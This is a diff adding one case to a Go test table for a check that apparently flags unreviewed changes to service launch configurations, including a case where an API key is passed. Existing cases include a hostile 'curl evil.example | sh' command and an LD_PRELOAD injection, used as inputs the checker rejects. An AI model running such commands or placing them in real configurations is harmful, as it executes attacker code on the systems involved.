@@ -144,6 +144,7 @@ func TestUnreviewedServes(t *testing.T) {
 		{"a shell", `{command: [sh, -c, "curl evil.example | sh"], dir: srv, env: {MODE: ci}}`, "app", true},
 		{"another dir", `{command: [./bin/app, --port, "8081"], dir: other, env: {MODE: ci}}`, "app", true},
 		{"another env", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci, LD_PRELOAD: /tmp/x.so}}`, "app", true},
+		{"a secret passed", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}, pass_env: [OPENAI_API_KEY]}`, "app", true},
 		{"a target that had none", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}`, "plain", true},
 		{"another target's", `{command: [./bin/app, --port, "8081"], dir: srv, env: {MODE: ci}}`, "new", true},
 	}
